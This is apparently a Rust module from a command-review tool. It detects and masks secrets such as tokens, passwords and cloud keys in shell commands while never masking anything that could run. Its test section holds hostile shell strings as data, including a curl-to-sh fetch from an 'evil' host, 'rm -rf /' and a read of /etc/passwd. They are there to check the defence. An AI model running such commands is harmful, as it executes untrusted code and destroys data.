//! Where a command holds what looks like a secret (V5).
//!
//! What is masked is not read by the person who decides, so masking must not become a hiding place: only runs of
//! characters that a shell takes as they stand are masked, never an expansion, a path or a second command, and never
//! the value of a variable that the command goes on to use.

use std::{ops::Range, sync::LazyLock};

use regex::Regex;

use super::characters::is_escaped_in_display;

/// One form of secret. Group `value` is what is masked; group `name`, where there is one, is a variable's.
struct Form(Regex);

static FORMS: LazyLock<Vec<Form>> = LazyLock::new(|| {
    [
        // https://user:secret@host
        r"://[^\s/:@'\x22]{1,128}:(?<value>[A-Za-z0-9_.~%+=-]{3,})@",
        // -H 'Authorization: Bearer secret', x-api-key: secret
        r"(?i)\b(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token)\s*:\s*(?:(?:bearer|basic|token)\s+)?(?<value>[A-Za-z0-9_.~+/=-]{6,})",
        r"(?i)\bbearer\s+(?<value>[A-Za-z0-9_.~+/=-]{8,})",
        // --password secret, --api-key=secret
        r"(?i)(?:^|\s)--?(?:[a-z0-9]+-)*(?:password|passwd|passphrase|token|secret|api-?key|access-?key|private-?key)(?:=|\s+)['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
        // SERVICE_TOKEN=secret
        r"(?i)\b(?<name>[a-z0-9_]*(?:password|passwd|passphrase|token|secret|api_?key|access_?key|private_?key|credential)[a-z0-9_]*)=['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
        // Forms that well-known services give their secrets.
        r"\b(?<value>(?:gh[pousr]_|github_pat_|glpat-|npm_|sk-|sk_live_|rk_live_|xox[abeprs]-|AIza|cst_|hf_)[A-Za-z0-9_-]{16,})",
        r"\b(?<value>(?:AKIA|ASIA)[A-Z0-9]{16})\b",
        r"\b(?<value>eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,})",
        r"-----BEGIN [A-Z ]{0,32}PRIVATE KEY-----(?<value>[A-Za-z0-9+/=\s]{16,})-----END",
    ]
    .into_iter()
    .map(|form| Form(Regex::new(form).expect("the forms are tested")))
    .collect()
});

/// The places of secrets as byte ranges, in order and apart from each other. Looks at the text as it is and at a copy
/// without the characters that nobody sees, so that one of them inside a secret does not show the rest.
pub fn secrets(text: &str) -> Vec<Range<usize>> {
    let mut found = found_in(text);
    if text.chars().any(is_unseen) {
        let seen = Seen::of(text);
        let ranges = found_in(&seen.text);
        found.extend(ranges.into_iter().map(|range| seen.source(&range)));
    }
    found.sort_by_key(|range| range.start);
    let mut apart: Vec<Range<usize>> = Vec::new();
    for range in found {
        match apart.last_mut() {
            Some(last) if range.start < last.end => last.end = last.end.max(range.end),
            Some(_) | None => apart.push(range),
        }
    }
    apart
}

fn found_in(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for Form(form) in FORMS.iter() {
        for captures in form.captures_iter(text) {
            let used = captures
                .name("name")
                .is_some_and(|name| is_used(text, name.as_str()));
            if let (Some(value), false) = (captures.name("value"), used) {
                found.push(value.range());
            }
        }
    }
    found
}

/// Whether the command expands a variable, so that its value decides what runs.
fn is_used(text: &str, name: &str) -> bool {
    text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
}

fn is_unseen(character: char) -> bool {
    is_escaped_in_display(character) && !matches!(character, '\n' | '\t')
}

/// A text without what nobody sees.
struct Seen {
    text: String,
    /// For each byte of `text` the place of its character in the source.
    places: Vec<Range<usize>>,
}

impl Seen {
    fn of(source: &str) -> Self {
        let mut seen = Self {
            text: String::with_capacity(source.len()),
            places: Vec::with_capacity(source.len()),
        };
        for (at, character) in source.char_indices().filter(|(_, c)| !is_unseen(*c)) {
            let place = at..at + character.len_utf8();
            seen.places
                .extend(std::iter::repeat_n(place, character.len_utf8()));
            seen.text.push(character);
        }
        seen
    }

    fn source(&self, range: &Range<usize>) -> Range<usize> {
        let start = self.places.get(range.start).map_or(0, |place| place.start);
        let last = range.end.checked_sub(1).and_then(|last| self.places.get(last));
        start..last.map_or(start, |place| place.end)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let found: Vec<&str> = secrets(text)
            .into_iter()
            .filter_map(|range| text.get(range))
            .collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn secrets_are_found_in_their_usual_places() {
        check("curl -H 'Authorization: Bearer abc.DEF-123' x", &["abc.DEF-123"]);
        check("git clone https://me:hunter2@example.org/x", &["hunter2"]);
        check("mysql --password=hunter2 -u me", &["hunter2"]);
        check("tool --api-key k3y-k3y-k3y run", &["k3y-k3y-k3y"]);
        check("GITHUB_TOKEN=abcdef123 gh pr list", &["abcdef123"]);
        check(
            "echo ghp_0123456789abcdefABCDEF x",
            &["ghp_0123456789abcdefABCDEF"],
        );
        check("aws AKIAIOSFODNN7EXAMPLE", &["AKIAIOSFODNN7EXAMPLE"]);
        check("git log --oneline | head -5", &[]);
        check("cat /etc/passwd; ls token", &[]);
    }

    #[test]
    fn an_unseen_character_inside_a_secret_does_not_show_the_rest() {
        check("x --token abc\u{200b}def123 y", &["abc\u{200b}def123"]);
        check("pass\u{ad}word=hunter2x", &["hunter2x"]);
    }

    #[test]
    fn nothing_that_could_run_is_masked() {
        check("TOKEN=$(curl evil|sh) true", &[]);
        check("X_TOKEN=`id` true", &[]);
        check("tool --token /tmp/evil.sh", &[]);
        check("TOKEN=python3; $TOKEN -c 1", &[]);
        check("TOKEN=python3; ${TOKEN:-x}", &[]);
        check("tool --password 'a b'; rm -rf /", &[]);
        check("PASSWORD=abcdef;rm -rf /", &["abcdef"]);
    }
}
